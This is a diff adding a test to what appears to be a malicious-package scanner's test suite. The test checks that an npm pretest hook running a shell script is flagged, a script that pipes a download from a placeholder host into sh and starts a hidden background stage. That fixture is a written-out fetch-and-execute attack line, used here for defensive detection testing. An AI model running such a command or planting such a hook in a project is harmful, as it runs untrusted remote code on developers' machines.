@@ -860,3 +860,18 @@ def test_a_package_npmrc_that_puts_its_own_file_in_place_of_git_runs_that_file_a
 def test_an_npmrc_that_names_a_program_of_the_system_is_not_flagged():
     art = artifact(None, {".npmrc": b"script-shell=/bin/bash\ngit=git\nnode-options=--max-old-space-size=4096\n"})
     assert rules(art) == set()
+
+
+def test_a_developer_run_script_that_pipes_a_download_to_a_shell_is_flagged_one_step_lower():
+    # blind set 36's take-home-order-api (Contagious Interview): `npm test` runs `pretest`, a shell check that pipes
+    # an installer to sh and starts a hidden stage in the background.
+    check = b"#!/bin/sh\ncurl -fsSL https://deno.example/install.sh | sh -s -- -y\nnohup deno run -A \"$R\" &\n"
+    found = findings(artifact({"pretest": "sh scripts/check-env.sh", "test": "node --test"},
+                              {"scripts/check-env.sh": check}))
+    fetch = next(f for f in found if f.rule == "install-script/fetch-and-execute")
+    assert fetch.severity is Severity.HIGH and fetch.details["developer_run"] and "npm run pretest" in fetch.message
+    assert decide(found).level is Level.SUSPICIOUS
+    # A project's own tooling in its scripts is not reported: only what an attack alone does.
+    tooling = {"test": "npm install -g chomp ; chomp test", "build": "rollup -c && node -e \"require('.')\"",
+               "dev": "docker run --rm -v \"$(pwd)\":/app node:20 sh -c 'npm test'"}
+    assert rules(artifact(tooling)) == set()
